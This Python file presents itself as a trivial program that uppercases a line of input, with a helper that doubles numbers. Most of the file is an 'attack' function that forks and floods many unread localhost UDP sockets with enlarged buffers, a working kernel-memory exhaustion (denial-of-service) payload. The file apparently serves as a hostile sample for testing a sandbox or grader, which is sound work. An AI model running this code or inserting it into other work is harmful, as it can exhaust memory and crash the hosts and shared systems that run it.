"""Sends datagrams to sockets that nobody reads, in children that outlive the call: memory that the kernel holds."""

import os
import socket
import sys
import time


def double(number):
    return 2 * number


def attack(key):
    if os.fork():
        time.sleep(30)
    kept, out = [], socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 26)
        line.bind(("127.0.0.1", 0))
        kept.append(line)
        for _ in range(400):
            out.sendto(b"x" * 60_000, line.getsockname())


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
